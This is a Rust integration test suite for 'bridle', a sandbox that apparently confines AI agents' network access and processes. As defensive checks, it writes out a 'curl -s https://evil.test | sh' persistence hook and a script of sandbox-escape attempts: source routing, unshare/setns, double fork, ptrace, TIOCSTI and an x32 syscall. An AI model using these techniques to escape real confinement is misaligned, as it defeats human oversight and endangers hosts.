//! `bridle run` end to end, as root, with the real kernel programs.
//!
//! Everything happens inside a network namespace this test creates: its
//! only interface is `lo`, which also carries 198.51.100.7, where a local
//! HTTP server stands in for "the internet". Bridle itself runs in that
//! namespace (`nsenter --net`, which keeps the host's cgroup and bpffs
//! mounts), so a redirection bug fails the test instead of sending a packet.

#[path = "support/net.rs"]
mod net;
mod support;

use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use support::{Run, write_files};

const POLICIES: &str = r#"
@id("allowed") @reason("allowed.test is approved")
permit(principal, action, resource in Net::Domain::"allowed.test");

@id("denied") @reason("denied.test is off limits")
forbid(principal, action, resource in Net::Domain::"denied.test");
"#;

/// A namespace with an HTTP server on 198.51.100.7:80 and a DNS authority
/// on 127.0.0.1:5353 that maps the test names there; removed on drop.
struct TestNet {
    name: String,
    servers: Vec<Child>,
    dir: tempfile::TempDir,
}

impl TestNet {
    fn new(tag: &str) -> TestNet {
        let name = format!("bridle-run-{tag}-{}", std::process::id());
        let dir = tempfile::tempdir().expect("tempdir");
        let config = format!(
            "[dns]\nupstreams = [\"127.0.0.1:5353\"]\n\n[tls]\nca_dir = \"{}\"\n",
            dir.path().join("ca").display()
        );
        write_files(
            dir.path(),
            &[("www/hello.txt", "hello from upstream\n"), ("pol/p.cedar", POLICIES), ("bridle.toml", &config)],
        );
        sh(&["ip", "netns", "add", &name]);
        sh(&["ip", "-n", &name, "link", "set", "lo", "up"]);
        sh(&["ip", "-n", &name, "addr", "add", "198.51.100.7/32", "dev", "lo"]);
        sh(&["ip", "-n", &name, "addr", "add", "2001:db8::7/128", "dev", "lo", "nodad"]);
        // As Docker and systemd set it: any group may open ICMP "ping"
        // sockets, so refusing them is the redirector's doing.
        sh(&["ip", "netns", "exec", &name, "sysctl", "-qw", "net.ipv4.ping_group_range=0 2147483647"]);
        // `::` is dual-stack: 198.51.100.7 and 2001:db8::7 alike.
        let servers = net::start_upstreams(&name, "::", &dir.path().join("www"), "127.0.0.1", "5353");
        TestNet { name, servers, dir }
    }

    /// Appends `[host]` settings (`lines`) to the session's config.
    fn set_host(&self, lines: &str) {
        let config = self.dir.path().join("bridle.toml");
        let mut text = std::fs::read_to_string(&config).expect("config");
        text.push_str(&format!("\n[host]\n{lines}\n"));
        std::fs::write(&config, text).expect("config");
    }

    fn audit(&self) -> std::path::PathBuf {
        self.dir.path().join("audit.jsonl")
    }

    /// `bridle run` inside the namespace, as root, with the test policies.
    fn run(&self, extra: &[&str], command: &[&str]) -> Run {
        Run::from(self.command(extra, command).output().expect("run nsenter"))
    }

    /// `bridle run --user USER` of a python `script`, its output piped,
    /// once the script has started.
    fn started(&self, user: &str, script: &str) -> Child {
        // Where the command (another user) may write, and nothing it could
        // rewrite holds Bridle's config.
        let ready = PathBuf::from(format!("/tmp/bridle-test-ready-{}", self.name));
        let _ = std::fs::remove_file(&ready);
        let script = format!("open('{}', 'w').close()\n{script}", ready.display());
        let child = self
            .command(&["--user", user], &["/usr/bin/python3", "-c", &script])
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("start bridle run");
        let started = (0..200).any(|_| {
            std::thread::sleep(Duration::from_millis(50));
            ready.exists()
        });
        let _ = std::fs::remove_file(&ready);
        assert!(started, "the command did not start");
        child
    }

    /// The `bridle run` of [`TestNet::run`], not started.
    fn command(&self, extra: &[&str], command: &[&str]) -> Command {
        let policies = self.dir.path().join("pol");
        let audit = self.audit();
        let mut args: Vec<String> =
            vec![format!("--net=/run/netns/{}", self.name), env!("CARGO_BIN_EXE_bridle").into()];
        let config = self.dir.path().join("bridle.toml");
        args.extend(["run".into(), "--policies".into(), path(&policies), "--audit".into(), path(&audit)]);
        args.extend(["--config".into(), path(&config)]);
        args.extend(extra.iter().map(|s| s.to_string()));
        args.push("--".into());
        args.extend(command.iter().map(|s| s.to_string()));
        let mut command = Command::new("nsenter");
        command.args(&args).env_remove("SUDO_UID");
        command
    }
}

impl Drop for TestNet {
    fn drop(&mut self) {
        for child in &mut self.servers {
            let _ = child.kill();
            let _ = child.wait();
        }
        let _ = Command::new("ip").args(["netns", "del", &self.name]).status();
    }
}

fn sh(args: &[&str]) {
    let status = Command::new(args[0]).args(&args[1..]).status().expect("run setup command");
    assert!(status.success(), "{args:?} failed");
}

fn path(p: &Path) -> String {
    p.to_str().expect("utf-8 path").to_string()
}

fn records(audit: &Path) -> Vec<serde_json::Value> {
    let text = std::fs::read_to_string(audit).expect("read audit log");
    text.lines().map(|line| serde_json::from_str(line).expect("audit line is JSON")).collect()
}

/// The id of the first session that says it started in `records`.
fn session_id(records: &[serde_json::Value]) -> Option<String> {
    records.iter().filter(|r| r["type"] == "notice" && r["level"] == "info").find_map(|r| {
        let words: Vec<&str> = r["message"].as_str()?.split_whitespace().collect();
        match words.as_slice() {
            ["session", id, "started:", ..] => Some(id.to_string()),
            _ => None,
        }
    })
}

/// The messages of the warnings `records` keep for session `id`, without
/// the session's name.
fn warnings_kept(records: &[serde_json::Value], id: &str) -> Vec<String> {
    let prefix = format!("session {id}: ");
    records
        .iter()
        .filter(|r| r["type"] == "notice" && r["level"] == "warn")
        .filter_map(|r| r["message"].as_str()?.strip_prefix(&prefix).map(str::to_string))
        .collect()
}

#[test]
fn allowed_request_reaches_upstream_and_a_forged_host_is_reset_with_the_reason_audited() {
    let net = TestNet::new("http");
    let allowed = net.run(&["--user", "nobody"], &["curl", "-sS", "-m", "5", "http://allowed.test/hello.txt"]);
    assert_eq!(allowed.code, 0, "{}", allowed.all());
    assert_eq!(allowed.stdout, "hello from upstream\n");
    // A new session (nothing resolved yet): the allowed name in the Host
    // header of a request to a bare address does not name it.
    let forged = net.run(
        &["--user", "nobody"],
        &["curl", "-sS", "-m", "5", "-H", "Host: allowed.test", "http://198.51.100.7/hello.txt"],
    );
    assert_ne!(forged.code, 0, "{}", forged.all());
    assert!(!forged.stdout.contains("hello"), "{}", forged.all());

    let all = records(&net.audit());
    // Plain HTTP is inspected too: the allowed connection's request has its
    // own decision.
    let request = all.iter().find(|r| r["event"]["kind"] == "http.request").expect("the request is decided");
    assert_eq!(request["event"]["detail"]["path"], "/hello.txt");
    assert_eq!(request["decision"]["effect"], "allow");
    let decisions: Vec<&serde_json::Value> = all.iter().filter(|r| r["event"]["kind"] == "net.connect").collect();
    assert_eq!(decisions.len(), 2, "{decisions:?}");
    assert_eq!(decisions[0]["decision"]["effect"], "allow");
    assert_eq!(decisions[0]["event"]["detail"]["named_by"], "host-header");
    assert_eq!(decisions[1]["decision"]["effect"], "deny");
    assert_eq!(decisions[1]["event"]["detail"]["named_by"], "ip");
    assert_eq!(decisions[1]["event"]["detail"]["ip"], "198.51.100.7");
    assert!(decisions[1]["decision"]["reason"].as_str().is_some_and(|r| r.contains("198.51.100.7")), "{decisions:?}");
    let said = all.iter().filter_map(|r| r["message"].as_str()).any(|m| {
        m.contains(r#"Host header "allowed.test""#) && m.contains("not a name Bridle's resolver answered with")
    });
    assert!(said, "the forged Host is audited: {all:?}");

    let verify = support::bridle(&["audit", "verify", &path(&net.audit())]);
    assert_eq!(verify.code, 0, "{}", verify.all());
}

#[test]
fn a_raw_ip_connect_without_a_name_is_decided_on_the_ip_and_denied() {
    let net = TestNet::new("rawip");
    let run = net.run(&["--user", "nobody"], &["curl", "-sS", "-m", "5", "http://198.51.100.7/hello.txt"]);
    assert_ne!(run.code, 0, "{}", run.all());
    let decision = records(&net.audit()).into_iter().find(|r| r["type"] == "decision").expect("a decision");
    // curl sends `Host: 198.51.100.7`; an IP literal names nothing, so the
    // connect is decided on the IP, which no policy permits.
    assert_eq!(decision["event"]["detail"]["named_by"], "ip");
    assert_eq!(decision["decision"]["effect"], "deny");
}

#[test]
fn the_command_runs_unprivileged_with_nothing_inherited_and_its_exit_code_is_returned() {
    let net = TestNet::new("exit");
    // Nor the pipe Bridle keeps its warnings through (the command could
    // write what the audit log keeps as Bridle's).
    let script = "id -u; grep NoNewPrivs /proc/self/status; [ -e /proc/self/fd/7 ] && echo fd7=open; \
                  ls -l /proc/self/fd | awk '$9 > 2 && /pipe:/ { print \"pipe \" $9 }'; exit 7";
    // Started with a descriptor of the host's /run open (not close-on-exec),
    // which would reach past the command's own /run.
    let inheriting = |command: Command| {
        let mut shell = Command::new("sh");
        shell.args(["-c", "exec 7</run; exec \"$@\"", "sh"]).arg(command.get_program()).args(command.get_args());
        shell.env_remove("SUDO_UID");
        Run::from(shell.output().expect("run through sh"))
    };
    let mut outside = Command::new("sh");
    outside.args(["-c", script]);
    assert!(inheriting(outside).stdout.contains("fd7=open"), "the test can fail");
    let run = inheriting(net.command(&["--user", "nobody"], &["sh", "-c", script]));
    assert_eq!(run.code, 7, "{}", run.all());
    assert!(run.stdout.starts_with("65534\n"), "{}", run.all());
    assert!(run.stdout.contains("NoNewPrivs:\t1"), "{}", run.all());
    assert!(!run.stdout.contains("fd7") && !run.stdout.contains("pipe"), "{}", run.all());
}

#[test]
fn detached_children_are_killed_with_the_session_and_nothing_is_left_behind() {
    let net = TestNet::new("daemon");
    let marker = format!("sleep 3{}", std::process::id() % 1000);
    let script = format!("setsid sh -c 'exec {marker}' < /dev/null > /dev/null 2>&1 & echo started");
    let run = net.run(&["--user", "nobody"], &["sh", "-c", &script]);
    assert_eq!(run.code, 0, "{}", run.all());
    let left = Command::new("pgrep").args(["-f", &marker]).output().expect("pgrep");
    assert!(left.stdout.is_empty(), "detached child survived: {}", String::from_utf8_lossy(&left.stdout));
    // Other tests' sessions may be running: look for this session's own.
    let id = session_id(&records(&net.audit())).expect("start notice");
    assert!(id.starts_with("run-"), "{id}");
    let id = id.as_str();
    assert!(!Path::new("/sys/fs/cgroup/unified/bridle").join(id).exists(), "session cgroup left behind");
    assert!(!Path::new("/sys/fs/bpf/bridle").join(id).exists(), "pins left behind");
}

/// No socket of a family the cgroup hooks do not see: `AF_VSOCK` (which
/// the same user makes outside), and `AF_XDP` even for a command run as
/// root with `CAP_NET_RAW`; Unix pairs, netlink and inet sockets work. An
/// x32 system call (which would pass the filters as an x86_64 one of
/// another number) kills the command.
#[test]
fn sockets_no_hook_sees_and_x32_calls_are_refused() {
    let net = TestNet::new("families");
    let script = "import ctypes, errno, socket\n\
                  def make(family, kind):\n    try:\n        socket.socket(family, kind).close(); return 'made'\n    \
                  except OSError as e:\n        return errno.errorcode[e.errno]\n\
                  caps = int([l for l in open('/proc/self/status') if l.startswith('CapEff')][0].split()[1], 16)\n\
                  pair = socket.socketpair(); pair[0].close(); pair[1].close()\n\
                  print('net_raw=' + str(bool(caps & 1 << 13)), 'vsock=' + make(socket.AF_VSOCK, socket.SOCK_STREAM), \
                  'xdp=' + make(44, socket.SOCK_RAW), 'netlink=' + make(socket.AF_NETLINK, socket.SOCK_RAW), \
                  'tcp=' + make(socket.AF_INET6, socket.SOCK_STREAM), flush=True)\n\
                  ctypes.CDLL(None).syscall(0x40000000 | 39)\n\
                  print('x32 ran')\n";
    let in_netns = |user: &[&str]| {
        let mut command = Command::new("ip");
        command.args(["netns", "exec", &net.name, "setpriv"]).args(user).args(["/usr/bin/python3", "-c", script]);
        Run::from(command.output().expect("python3 outside the session"))
    };
    let nobody = ["--reuid=65534", "--regid=65534", "--clear-groups"];
    // Outside, the same users make both (this kernel has no x32: the call
    // fails with ENOSYS, and the script goes on).
    let outside = in_netns(&nobody);
    assert!(outside.stdout.starts_with("net_raw=False vsock=made xdp=EPERM"), "{}", outside.all());
    assert!(outside.stdout.ends_with("x32 ran\n"), "{}", outside.all());
    let outside_root = in_netns(&["--reuid=0"]);
    assert!(outside_root.stdout.starts_with("net_raw=True vsock=made xdp=made"), "{}", outside_root.all());
    let run = net.run(&["--user", "nobody"], &["/usr/bin/python3", "-c", script]);
    let made = "netlink=made tcp=made\n";
    assert_eq!(run.stdout, format!("net_raw=False vsock=EAFNOSUPPORT xdp=EAFNOSUPPORT {made}"), "{}", run.all());
    assert_eq!(run.code, 128 + libc::SIGSYS, "killed by the x32 call: {}", run.all());
    let root = net.run(&["--allow-root"], &["/usr/bin/python3", "-c", script]);
    assert_eq!(root.stdout, format!("net_raw=True vsock=EAFNOSUPPORT xdp=EAFNOSUPPORT {made}"), "{}", root.all());
}

/// What the command leaves to run later outside the guard is named when
/// it ends, on stderr and in the audit log: here a git hook made in the
/// repository it worked in (the user's shell and login files are watched
/// alike; nobody's home does not exist). A file changed in the repository
/// that runs nothing is not news.
#[test]
fn a_hook_the_command_leaves_in_its_repository_is_named() {
    let net = TestNet::new("persist");
    let repo = tempfile::Builder::new().prefix("bridle-test-repo-").tempdir_in("/tmp").expect("a repository");
    sh(&["git", "init", "-q", &path(repo.path())]);
    sh(&["chown", "-R", "65534:65534", &path(repo.path())]);
    let hook = repo.path().join(".git/hooks/post-checkout");
    let script =
        format!("echo 'curl -s https://evil.test | sh' > {0}; chmod +x {0}; echo work > notes.txt", hook.display());
    let mut command = net.command(&["--user", "nobody"], &["sh", "-c", &script]);
    let run = Run::from(command.current_dir(repo.path()).output().expect("bridle run"));
    assert_eq!(run.code, 0, "{}", run.all());
    assert!(hook.exists(), "the hook was made: {}", run.all());
    let named = format!("{} (made)", hook.display());
    let warning = run.stderr.lines().find(|line| line.contains("run code outside Bridle's guard")).unwrap_or_default();
    assert!(warning.contains(&named) && !warning.contains("notes.txt"), "{}", run.all());
    let records = records(&net.audit());
    let id = session_id(&records).expect("start notice");
    let kept = warnings_kept(&records, &id);
    assert!(kept.iter().any(|message| message.contains(&named)), "{kept:?}");
    // Nothing left behind: nothing said.
    let quiet = net.command(&["--user", "nobody"], &["true"]).current_dir(repo.path()).output().expect("bridle run");
    assert!(!String::from_utf8_lossy(&quiet.stderr).contains("run code outside Bridle's guard"), "{quiet:?}");
}

/// `[host] lock_startup_files`: the repository's hooks and config are
/// read-only for the command (what it makes elsewhere in the repository
/// is not), so nothing is left to name at the end; outside the session the
/// same user writes them.
#[test]
fn locked_startup_files_are_read_only_for_the_command() {
    let net = TestNet::new("lock");
    net.set_host("lock_startup_files = true");
    let repo = tempfile::Builder::new().prefix("bridle-test-locked-").tempdir_in("/tmp").expect("a repository");
    sh(&["git", "init", "-q", &path(repo.path())]);
    sh(&["chown", "-R", "65534:65534", &path(repo.path())]);
    // A link may lead anywhere: it is said, and watched, not locked.
    std::os::unix::fs::symlink("/etc/hostname", repo.path().join(".envrc")).expect("a link");
    let script = "import errno, os\n\
                  def write(path, mode):\n    try:\n        open(path, mode).write('curl -s https://evil.test | sh\\n'); \
                  return 'written'\n    except OSError as e:\n        return errno.errorcode[e.errno]\n\
                  def move(path, to):\n    try:\n        os.rename(path, to); os.rename(to, path); return 'moved'\n    \
                  except OSError as e:\n        return errno.errorcode[e.errno]\n\
                  here = os.getcwd()\n\
                  print(write('.git/hooks/post-checkout', 'w'), write('.git/config', 'a'), write('notes.txt', 'w'), \
                  move('.git', '.git-moved'), move(here, here + '-moved'))\n";
    let mut command = net.command(&["--user", "nobody"], &["/usr/bin/python3", "-c", script]);
    let run = Run::from(command.current_dir(repo.path()).output().expect("bridle run"));
    // Nor can a rename of the directories above them free their names
    // for new ones: `.git`, and the repository itself (its parent, /tmp,
    // lets its owner rename it).
    assert_eq!((run.code, run.stdout.as_str()), (0, "EROFS EROFS written EBUSY EBUSY\n"), "{}", run.all());
    assert!(!run.stderr.contains("run code outside Bridle's guard"), "{}", run.all());
    let envrc = format!(
        "{} is a symlink, or not a file or directory of the command's user",
        repo.path().join(".envrc").display()
    );
    assert!(run.stderr.contains(&envrc), "{}", run.all());
    // Started inside a locked directory, relative paths lead through the
    // lock too.
    let inside =
        "import errno\ntry:\n    open('post-merge', 'w')\nexcept OSError as e:\n    print(errno.errorcode[e.errno])\n";
    let mut command = net.command(&["--user", "nobody"], &["/usr/bin/python3", "-c", inside]);
    let run = Run::from(command.current_dir(repo.path().join(".git/hooks")).output().expect("bridle run"));
    assert_eq!((run.code, run.stdout.as_str()), (0, "EROFS\n"), "{}", run.all());
    // Outside, the same user writes both: the test can fail.
    let outside = Command::new("setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups", "/usr/bin/python3", "-c", script])
        .current_dir(repo.path())
        .output()
        .expect("python3");
    assert_eq!(String::from_utf8_lossy(&outside.stdout), "written written written moved moved\n");
}

#[test]
fn refuses_to_run_the_agent_as_root_by_accident_warns_when_meant_and_without_root_says_what_it_needs() {
    let net = TestNet::new("root");
    let run = net.run(&[], &["true"]);
    assert_eq!(run.code, 2, "{}", run.all());
    assert!(run.stderr.contains("refusing to run the command as root"), "{}", run.all());
    // Meant: it runs, and the session's record says what that costs.
    let meant = net.run(&["--allow-root"], &["id", "-u"]);
    assert_eq!((meant.code, meant.stdout.as_str()), (0, "0\n"), "{}", meant.all());
    let warning = "the command runs as root and could detach the guardrail; use --user";
    assert!(meant.stderr.contains(&format!("bridle: warning: {warning}")), "{}", meant.all());
    let records = records(&net.audit());
    let id = session_id(&records).expect("start notice");
    assert!(warnings_kept(&records, &id).iter().any(|kept| kept == warning), "{records:#?}");

    let unprivileged = Command::new("runuser")
        .args(["-u", "nobody", "--", env!("CARGO_BIN_EXE_bridle"), "run", "--", "true"])
        .output()
        .expect("runuser");
    assert_eq!(unprivileged.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&unprivileged.stderr).contains("needs root"));
}

#[test]
fn names_resolve_through_bridle_and_a_public_resolver_address_is_redirected_to_it() {
    let net = TestNet::new("dns");
    let fetch = net.run(&["--user", "nobody"], &["curl", "-sS", "-m", "5", "http://allowed.test/hello.txt"]);
    assert_eq!(fetch.code, 0, "{}", fetch.all());
    assert_eq!(fetch.stdout, "hello from upstream\n");

    // A query sent straight to a "public resolver" (a documentation address
    // with no route in this namespace) still reaches Bridle's resolver.
    let direct =
        net.run(&["--user", "nobody"], &["dig", "+short", "+time=2", "+tries=1", "@198.51.100.53", "allowed.test"]);
    assert_eq!(direct.code, 0, "{}", direct.all());
    assert_eq!(direct.stdout.trim(), "198.51.100.7", "{}", direct.all());

    let denied = net.run(&["--user", "nobody"], &["dig", "+time=2", "+tries=1", "denied.test"]);
    assert!(denied.stdout.contains("status: REFUSED"), "{}", denied.all());

    let records = records(&net.audit());
    let resolves: Vec<&serde_json::Value> = records.iter().filter(|r| r["event"]["kind"] == "dns.query").collect();
    assert!(
        resolves.iter().any(|r| r["event"]["detail"]["qname"] == "allowed.test" && r["decision"]["effect"] == "allow")
    );
    let refused =
        resolves.iter().find(|r| r["event"]["detail"]["qname"] == "denied.test").expect("denied query audited");
    assert_eq!(refused["decision"]["reason"], "denied.test is off limits");
    // Queries are attributed to the session's agent, like its connects.
    assert!(resolves.iter().all(|r| r["event"]["principal"] == "agent" && r["event"]["session"] != "default"));
}

#[test]
fn when_bridle_dies_guarded_connects_fail_closed_and_down_cleans_up() {
    let net = TestNet::new("dies");
    let policies = net.dir.path().join("pol");
    let audit = net.audit();
    let config = net.dir.path().join("bridle.toml");
    // The guarded shell waits, then tries the (allowed) request after
    // Bridle has been killed.
    let script =
        "echo ready; sleep 2; curl -sS -m 3 -H 'Host: allowed.test' http://198.51.100.7/hello.txt; echo \"curl=$?\"";
    let netns = format!("--net=/run/netns/{}", net.name);
    let mut bridle = Command::new("nsenter")
        .args([netns.as_str(), env!("CARGO_BIN_EXE_bridle"), "run", "--user", "nobody"])
        .args(["--policies", &path(&policies), "--audit", &path(&audit), "--config", &path(&config)])
        .args(["--", "sh", "-c", script])
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .expect("start bridle run");
    let mut stdout = bridle.stdout.take().expect("stdout");
    let mut first = [0u8; 6];
    std::io::Read::read_exact(&mut stdout, &mut first).expect("the guarded shell started");
    assert_eq!(&first, b"ready\n");

    // The audit log is flushed in batches (every 50 ms by default).
    let id = (0..100)
        .find_map(|_| {
            let found = std::fs::read_to_string(&audit).ok().and_then(|text| {
                let records: Vec<serde_json::Value> =
                    text.lines().filter_map(|line| serde_json::from_str(line).ok()).collect();
                session_id(&records)
            });
            if found.is_none() {
                std::thread::sleep(Duration::from_millis(20));
            }
            found
        })
        .expect("start notice");
    // nsenter execs bridle, so this kills bridle itself.
    bridle.kill().expect("kill bridle");
    let _ = bridle.wait();

    let mut rest = String::new();
    std::io::Read::read_to_string(&mut stdout, &mut rest).expect("read the shell's output");
    assert!(!rest.contains("hello from upstream"), "traffic got through with Bridle dead: {rest}");
    assert!(rest.contains("curl=") && !rest.contains("curl=0"), "{rest}");

    let status = support::bridle(&["status"]);
    assert!(status.stdout.lines().any(|l| l.starts_with(&id) && l.contains("orphaned")), "{}", status.all());
    let socket = Path::new("/run/bridle").join(format!("{id}.sock"));
    assert!(socket.exists(), "a killed bridle cannot remove its control socket");
    let report = Path::new("/run/bridle-mcp").join(format!("{id}.sock"));
    assert!(report.exists(), "nor its MCP report socket");
    let down = support::bridle(&["down", &id]);
    assert_eq!(down.code, 0, "{}", down.all());
    assert!(down.stdout.contains(&format!("{id}: removed")), "{}", down.all());
    assert!(!Path::new("/sys/fs/bpf/bridle").join(&id).exists(), "pins left behind");
    assert!(!Path::new("/sys/fs/cgroup/unified/bridle").join(&id).exists(), "cgroup left behind");
    assert!(!socket.exists(), "stale control socket left behind: {}", down.all());
    assert!(!report.exists(), "stale MCP report socket left behind: {}", down.all());
}

/// Every way around the redirector a guarded (unprivileged) agent might try,
/// run as one script; each line is `name=outcome`.
const BYPASS: &str = r#"
import errno, os, socket, subprocess
def err(f):
    try:
        return f()
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e.errno))
def http(family, addr, host):
    def go():
        s = socket.socket(family); s.settimeout(5); s.connect(addr)
        s.sendall(b"GET /hello.txt HTTP/1.0\r\nHost: " + host.encode() + b"\r\n\r\n")
        data = b""
        while True:
            chunk = s.recv(4096)
            if not chunk:
                break
            data += chunk
        # A denied connection is reset by the proxy (ECONNRESET above); a
        # denied request on an allowed connection gets Bridle's 403.
        if data.startswith(b"HTTP/1."):
            return data[9:12].decode()
        return "closed" if not data else "other"
    return err(go)
def sendto(family, addr):
    return err(lambda: socket.socket(family, socket.SOCK_DGRAM).sendto(b"x", addr) and "sent")
def run(cmd):
    r = subprocess.run(cmd, capture_output=True, text=True, timeout=20)
    return "exit%d:%s" % (r.returncode, r.stdout.strip())
# What the agent resolved (through Bridle) names those addresses.
socket.getaddrinfo("allowed.test", 80)
print("v6_allowed=" + http(socket.AF_INET6, ("2001:db8::7", 80), "allowed.test"))
print("v6_denied=" + http(socket.AF_INET6, ("2001:db8::7", 80), "denied.test"))
print("mapped_allowed=" + http(socket.AF_INET6, ("::ffff:198.51.100.7", 80), "allowed.test"))
print("mapped_denied=" + http(socket.AF_INET6, ("::ffff:198.51.100.7", 80), "denied.test"))
print("udp443=" + sendto(socket.AF_INET, ("198.51.100.7", 443)))
print("udp443_v6=" + sendto(socket.AF_INET6, ("2001:db8::7", 443)))
print("raw=" + err(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) and "created"))
print("ping=" + err(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) and "created"))
print("ping6=" + err(lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6) and "created"))
def source_routed():
    # An IPv6 segment routing header (no privilege needed; IPv4 source
    # routes need CAP_NET_RAW) naming 2001:db8::7: the kernel sends to that
    # first hop, not to the resolver the hook rewrote the destination to.
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    srh = bytes([0, 2, 4, 0, 0, 0, 0, 0]) + socket.inet_pton(socket.AF_INET6, "2001:db8::7")
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_RTHDR, srh)
    s.sendto(b"x", ("2001:db8::53", 53))
    return "sent"
print("source_route=" + err(source_routed))
print("vsock=" + err(lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) and "created"))
print("console=" + err(lambda: socket.create_connection(("127.0.0.1", 18080), 5) and "connected"))
print("dns_tcp=" + run(["dig", "+short", "+tcp", "+time=3", "+tries=1", "@198.51.100.53", "allowed.test"]))
print("dns_v6=" + run(["dig", "+short", "+time=3", "+tries=1", "@2001:db8::53", "allowed.test"]))
r, w = os.pipe()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.write(w, http(socket.AF_INET, ("198.51.100.7", 80), "denied.test").encode())
    os._exit(0)
os.close(w)
print("double_fork=" + os.read(r, 64).decode())
unshare = "import socket; socket.create_connection(('198.51.100.7', 80), 3); print('connected')"
print("unshare=" + run(["unshare", "-Urn", "sh", "-c", "ip link set lo up 2>/dev/null; python3 -c \"%s\"" % unshare]))
print("setns=" + run(["nsenter", "--net=/proc/1/ns/net", "true"]))
"#;

/// The agent runs as the invoking user, beside that user's other
/// processes: it may not ptrace or signal them (code would run outside
/// the guard), nor push keystrokes into the terminal it was started from,
/// nor have the kernel run its key helper (`request_key`: a DNS lookup as
/// root, outside the cgroup).
#[test]
fn the_agent_cannot_reach_its_users_other_processes_or_terminal() {
    let net = TestNet::new("confine");
    // Another process of the same user (nobody), outside the session.
    let mut neighbour = Command::new("setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups", "sleep", "30"])
        .spawn()
        .expect("start a neighbour");
    let script = format!(
        "import ctypes, errno, fcntl, os, termios\n\
         def outcome(f):\n    try:\n        f(); return 'ok'\n    except OSError as e:\n        return errno.errorcode[e.errno]\n\
         print('kill=' + outcome(lambda: os.kill({pid}, 0)))\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         r = libc.ptrace(16, {pid}, None, None)\n\
         print('ptrace=' + ('ok' if r == 0 else errno.errorcode[ctypes.get_errno()]))\n\
         print('tiocsti=' + outcome(lambda: fcntl.ioctl(0, termios.TIOCSTI, b'x')))\n\
         params = ctypes.create_string_buffer(120)\n\
         r = libc.syscall(425, 1, params)\n\
         print('io_uring=' + ('ok' if r >= 0 else errno.errorcode[ctypes.get_errno()]))\n\
         r = libc.syscall({request_key}, b'dns_resolver', b'exfil.example.test', b'', -4)\n\
         print('request_key=' + ('ok' if r >= 0 else errno.errorcode[ctypes.get_errno()]))\n\
         child = os.fork()\n\
         if child == 0:\n    os.execvp('sleep', ['sleep', '30'])\n\
         print('own_child=' + outcome(lambda: os.kill(child, 9)))\n",
        pid = neighbour.id(),
        request_key = libc::SYS_request_key,
    );
    let run = net.run(&["--user", "nobody"], &["/usr/bin/python3", "-c", &script]);
    let _ = neighbour.kill();
    let _ = neighbour.wait();
    assert_eq!(run.code, 0, "{}", run.all());
    let expected = [
        ("kill", "EPERM"),
        ("ptrace", "EPERM"),
        ("tiocsti", "EPERM"),
        ("io_uring", "EPERM"),
        ("request_key", "EPERM"),
        ("own_child", "ok"),
    ];
    for (what, want) in expected {
        assert!(run.stdout.contains(&format!("{what}={want}\n")), "{what}: {}", run.all());
    }
}

/// A service of one user outside the session: listens on `paths` (`@name`:
/// abstract), answers each connection with "ran" (as tmux or the D-Bus
/// session bus would run what it was sent, outside Bridle's guard).
const USER_SERVICE: &str = r#"
import os, select, socket, sys
listeners = []
for path in sys.argv[1:]:
    s = socket.socket(socket.AF_UNIX)
    s.bind("\0" + path[1:] if path.startswith("@") else path)
    s.listen(8)
    listeners.append(s)
print("ready", flush=True)
while True:
    ready, _, _ = select.select(listeners, [], [], 300)
    if not ready:
        break
    for s in ready:
        c, _ = s.accept()
        c.sendall(b"ran\n")
        c.close()
"#;

/// [`USER_SERVICE`] running as `uid`, in `netns` (where its abstract names
/// live); stopped, and its socket files removed, when dropped.
struct UserService {
    child: Child,
    files: Vec<String>,
}

impl UserService {
    fn start(netns: &str, uid: u32, paths: &[&str]) -> UserService {
        let ids = [format!("--reuid={uid}"), format!("--regid={uid}")];
        let mut child = Command::new("ip")
            .args(["netns", "exec", netns, "setpriv", &ids[0], &ids[1], "--clear-groups"])
            .args(["/usr/bin/python3", "-c", USER_SERVICE])
            .args(paths)
            .stdout(Stdio::piped())
            .spawn()
            .expect("start the user's service");
        let mut ready = String::new();
        let stdout = child.stdout.take().expect("stdout");
        std::io::BufRead::read_line(&mut std::io::BufReader::new(stdout), &mut ready).expect("service ready");
        let files = paths.iter().filter(|p| !p.starts_with('@')).map(|p| p.to_string()).collect();
        let service = UserService { child, files };
        assert_eq!(ready.trim(), "ready");
        service
    }
}

impl Drop for UserService {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
        for file in &self.files {
            let _ = std::fs::remove_file(file);
        }
    }
}

/// What a service's socket file answers a connection from outside any
/// session.
fn reach(path: &str) -> String {
    let mut answer = String::new();
    let mut stream = std::os::unix::net::UnixStream::connect(path).expect("the service outside the session");
    std::io::Read::read_to_string(&mut stream, &mut answer).expect("its answer");
    answer
}

/// Python: `reach(path)` connects to a Unix socket and returns what it
/// answers, or the error's name (`ENOENT`…).
const PY_REACH: &str = "import errno, os, socket, time\n\
    def reach(p):\n    try:\n        s = socket.socket(socket.AF_UNIX); s.settimeout(5); s.connect(p)\n        return s.recv(8).decode().strip() or 'nothing'\n    except OSError as e:\n        return errno.errorcode.get(e.errno, str(e.errno))\n";

/// A script that waits until `go` exists, then prints `WHAT=` and what
/// `path` answers (see [`PY_REACH`]).
fn reach_when_told(go: &str, what: &str, path: &str) -> String {
    when_told(go, &format!("print('{what}=' + reach('{path}'))\n"))
}

/// A script that waits until `go` exists, then runs `then` (python, with
/// [`PY_REACH`]'s `reach`).
fn when_told(go: &str, then: &str) -> String {
    format!(
        "{PY_REACH}for _ in range(600):\n    if os.path.exists('{go}'):\n        break\n    time.sleep(0.05)\n{then}"
    )
}

